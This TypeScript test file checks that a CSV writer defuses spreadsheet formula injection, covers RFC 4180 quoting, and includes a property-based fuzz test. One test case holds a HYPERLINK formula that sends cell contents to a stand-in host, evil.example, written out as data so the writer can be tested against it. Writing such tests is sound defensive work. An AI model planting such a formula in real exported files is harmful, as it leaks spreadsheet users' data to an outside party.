import fc from "fast-check"
import Papa from "papaparse"
import { describe, expect, test } from "vitest"
import { writeCsv } from "#app/exchange/csv-file.ts"

function rowsOf(csv: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(csv.replace(/^\ufeff/, "").replace(/\r\n$/, ""))
  expect(errors.filter(({ code }) => code !== "UndetectableDelimiter")).toEqual([])
  return data
}

describe("a cell", () => {
  test.each([
    ["=1+1", "'=1+1"],
    ["+7 700 000 00 00", "'+7 700 000 00 00"],
    ["-5", "'-5"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["\n=1", "'\n=1"],
    ["\0=1", "'=1"],
    ["＝1", "'＝1"],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', `'=HYPERLINK("https://evil.example?"&A1,"x")`],
    ["a=1", "a=1"],
    ["'=1", "'=1"],
    [-5, "-5"],
    [0, "0"],
    [null, ""],
    ["Қарағанды, «Тау»", "Қарағанды, «Тау»"],
    ['say "no"', 'say "no"'],
    ["two\nlines", "two\nlines"],
  ])("%j is read by a spreadsheet as %j", (cell, read) => {
    expect(rowsOf(writeCsv(["name"], [[cell]]))[1]).toEqual([read])
  })
})

test("a file begins with its mark and ends each line as RFC 4180 says", () => {
  expect(
    writeCsv(
      ["a", "b"],
      [
        ["1,2", null],
        ['"', 3],
      ],
    ),
  ).toBe('\ufeffa,b\r\n"1,2",\r\n"""",3\r\n')
})

test("a row of another width is a fault, not a file that lies", () => {
  expect(() => writeCsv(["a", "b"], [["1"]])).toThrow("1 cells under 2 names")
})

test("whatever is written, no cell begins a formula and every other text comes back as it was", () => {
  const cell = fc.oneof(
    fc.string({ unit: "grapheme" }),
    fc
      .tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "＝"), fc.string())
      .map((p) => p.join("")),
  )
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 5 }), (rows) => {
      const read = rowsOf(writeCsv(["a", "b"], rows)).slice(1)
      expect(read).toHaveLength(rows.length)
      for (const [row, cells] of read.entries()) {
        for (const [column, text] of cells.entries()) {
          expect(text).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
          const given = rows[row]?.[column]?.replaceAll("\0", "")
          expect([given, `'${given}`]).toContain(text)
        }
      }
    }),
    { numRuns: 500 },
  )
})
